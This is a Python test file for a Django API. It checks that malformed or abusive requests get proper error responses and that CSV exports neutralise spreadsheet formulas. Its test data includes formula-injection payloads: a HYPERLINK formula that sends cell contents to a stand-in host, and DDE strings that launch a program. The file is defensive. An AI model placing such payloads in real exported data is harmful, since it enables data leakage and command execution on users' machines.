"""Input an attacker or a bad network sends: each answered in the error shape, never a 500."""

import csv
import io
import json
from unittest import mock

import pytest
from django.db import InterfaceError, OperationalError, connection
from django.test import Client, override_settings
from django.urls import reverse

from api.csv import csv_cell
from relations.schemas.common import MAX_LIST_ITEMS
from relations.services.writes import MAX_CITATIONS
from tests.api.conftest import get_csv, get_json
from tests.factories import (
    ArticleFactory,
    EventCategoryFactory,
    EventFactory,
    MetricFactory,
    RelationshipFactory,
)

pytestmark = pytest.mark.django_db

SYNC_LISTS = [
    "/api/actors?updated_since={}",
    "/api/relationships?updated_since={}",
    "/api/agreements?updated_since={}",
    "/api/events?updated_since={}",
    "/api/metrics?updated_since={}",
    "/api/observations?updated_since={}",
    "/api/articles?updated_since={}",
    "/api/metrics/debt/observations?updated_since={}",
    "/api/deletions?since={}",
]
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


@pytest.fixture
def pair():
    """A relationship and a metric, so every list and detail path above resolves."""
    MetricFactory(slug="debt")
    return RelationshipFactory(slug="ru-tj")


@pytest.mark.parametrize("url", SYNC_LISTS)
@pytest.mark.parametrize("offset", ["%2B16:00", "-16:00", "%2B23:59"])
def test_a_utc_offset_postgresql_cannot_hold_is_a_422(api, pair, url, offset):
    body = get_json(api, url.format(f"2000-01-01T00:00:00{offset}"), status=422)

    assert body["detail"][0]["loc"][0] == "query"
    assert "offset" in body["detail"][0]["msg"]


@pytest.mark.parametrize("url", SYNC_LISTS)
def test_the_largest_offset_postgresql_holds_is_accepted(api, pair, url):
    get_json(api, url.format("2000-01-01T00:00:00%2B15:59"))
    get_json(api, url.format("2000-01-01T00:00:00-15:59"))


@override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=1000)
@pytest.mark.parametrize("method", ["post", "patch"])
def test_a_body_over_the_limit_is_a_413(api, pair, curator_headers, method):
    event = EventFactory(relationship=pair)
    url = "/api/events" if method == "post" else f"/api/events/{event.pk}"
    body = json.dumps({"title": "x" * 2000})

    response = getattr(api, method)(
        url, body, content_type="application/json", headers=curator_headers
    )

    assert response.status_code == 413
    assert response.json() == {"detail": "The request body is too large."}


def test_the_openapi_document_lists_413_and_503(api):
    schema = get_json(api, "/api/openapi.json")

    post_event = schema["paths"]["/api/events"]["post"]["responses"]
    assert {"413", "503"} <= set(post_event)
    assert "503" in schema["paths"]["/api/agreements"]["get"]["responses"]


@pytest.mark.parametrize("error", [OperationalError, InterfaceError])
@pytest.mark.parametrize("url", ["/api/agreements", "/api/relationships/ru-tj/temperature"])
def test_an_unreachable_database_is_a_503_with_retry_after_for_the_api(pair, error, url):
    client = Client(raise_request_exception=False)
    refused = error('connection to server at "127.0.0.1", port 5432 failed: Connection refused')

    with mock.patch.object(connection, "cursor", side_effect=refused):
        response = client.get(url)

    assert response.status_code == 503
    assert response.json() == {"detail": "The database is unavailable; try again shortly."}
    assert int(response["Retry-After"]) > 0


@pytest.mark.parametrize("url", ["/", "/relationships/ru-tj/", "/search/?q=base"])
def test_an_unreachable_database_is_a_plain_503_page(pair, url):
    client = Client(raise_request_exception=False)
    refused = OperationalError("the database system is shutting down")

    with mock.patch.object(connection, "cursor", side_effect=refused):
        response = client.get(url)

    assert response.status_code == 503
    assert response["Content-Type"].startswith("text/html")
    assert b"unavailable" in response.content
    assert int(response["Retry-After"]) > 0


def test_other_server_errors_stay_a_500_page(pair):
    client = Client(raise_request_exception=False)

    with mock.patch("relations.views.relationship_queryset", side_effect=RuntimeError("boom")):
        response = client.get("/relationships/ru-tj/")

    assert response.status_code == 500
    assert "Retry-After" not in response


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_quoted(trigger):
    assert csv_cell(f"{trigger}1+1") == f"'{trigger}1+1"
    assert csv_cell([f"{trigger}cmd", "safe"]) == f"'{trigger}cmd; safe"


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    from decimal import Decimal

    assert csv_cell(-5) == "-5"
    assert csv_cell(Decimal("-1.50")) == "-1.5"
    assert csv_cell("Base lease = 49 years") == "Base lease = 49 years"
    assert csv_cell("-5") == "-5" and csv_cell("+3.5") == "+3.5"
    assert csv_cell("-5+cmd|' /C calc'!A0") == "'-5+cmd|' /C calc'!A0"


def test_a_formula_in_a_title_is_neutralised_in_the_api_and_page_csvs(api, pair):
    EventFactory(relationship=pair, title=FORMULA)
    ArticleFactory(title="@SUM(1+1)*cmd|' /C calc'!A0", review_status="approved")

    _, api_rows = get_csv(api, "/api/events?format=csv")
    _, article_rows = get_csv(api, "/api/articles?format=csv")
    page = api.get(reverse("relations:relationship_events", args=["ru-tj"]), {"format": "csv"})
    page_rows = list(
        csv.reader(io.StringIO(b"".join(page.streaming_content).decode()))  # type: ignore[attr-defined]
    )

    for rows in (api_rows, page_rows):
        titles = [row[rows[0].index("title")] for row in rows[1:]]
        assert titles == [f"'{FORMULA}"]
    assert article_rows[1][article_rows[0].index("title")].startswith("'@SUM")


@pytest.mark.parametrize(
    ("url", "payload"),
    [
        ("/api/events", {"title": "Visit", "occurred_on": "2012-10-05", "category": "042"}),
        ("/api/observations", {"metric": "debt", "value": "1", "period_start": "2012-01-01"}),
    ],
)
def test_a_write_with_more_than_50_citations_is_refused_before_any_lookup(
    api, pair, curator_headers, url, payload, django_assert_max_num_queries
):
    article = ArticleFactory()
    citations = [{"article": article.pk}] * (MAX_CITATIONS + 1)
    body = json.dumps({"relationship": "ru-tj", **payload, "citations": citations})

    with django_assert_max_num_queries(5):  # the token and its permissions only
        response = api.post(url, body, content_type="application/json", headers=curator_headers)

    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["body", "citations"]


def test_every_list_in_a_write_body_is_bounded(api, pair, curator_headers):
    actors = [f"actor-{number}" for number in range(MAX_LIST_ITEMS + 1)]
    body = json.dumps({"actors": actors})
    event = EventFactory(relationship=pair)

    response = api.patch(
        f"/api/events/{event.pk}", body, content_type="application/json", headers=curator_headers
    )

    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["body", "actors"]


def test_the_citation_service_refuses_more_than_50_too(pair):
    from django.core.exceptions import ValidationError

    from relations.services.records import event_create

    article = ArticleFactory()
    data = {
        "relationship": pair,
        "title": "Visit",
        "occurred_on": "2012-10-05",
        "category": EventCategoryFactory().code,
        "citations": [{"article": article.pk}] * (MAX_CITATIONS + 1),
    }

    with pytest.raises(ValidationError) as refused:
        event_create(user=None, data=data)

    assert refused.value.message_dict == {"citations": [f"At most {MAX_CITATIONS} citations."]}
